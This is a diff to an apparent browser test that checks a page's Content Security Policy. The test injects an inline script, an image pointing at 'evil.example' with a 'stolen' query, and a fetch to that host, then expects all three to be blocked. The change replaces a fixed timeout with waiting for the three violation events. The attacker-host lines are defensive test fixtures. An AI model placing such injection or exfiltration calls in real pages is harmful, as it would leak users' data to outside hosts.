@@ -175,7 +175,11 @@ it("the policy stops what was slipped into the page", async () => {
   const { page } = await open();
   const outcome = await page.evaluate(async () => {
     const broken: string[] = [];
-    document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
+    const allTold = new Promise<void>((resolve) => {
+      document.addEventListener("securitypolicyviolation", (event) => {
+        if (broken.push(event.effectiveDirective) === 3) resolve();
+      });
+    });
     const script = document.createElement("script");
     script.textContent = "window.slipped = true";
     document.body.append(script);
@@ -183,7 +187,7 @@ it("the policy stops what was slipped into the page", async () => {
     image.src = "https://evil.example/?stolen";
     document.body.append(image);
     await fetch("https://evil.example/").catch(() => {});
-    await new Promise((resolve) => setTimeout(resolve, 50));
+    await allTold;
     return { broken: broken.sort(), slipped: "slipped" in window };
   });
   expect(outcome).toEqual({ broken: ["connect-src", "img-src", "script-src-elem"], slipped: false });
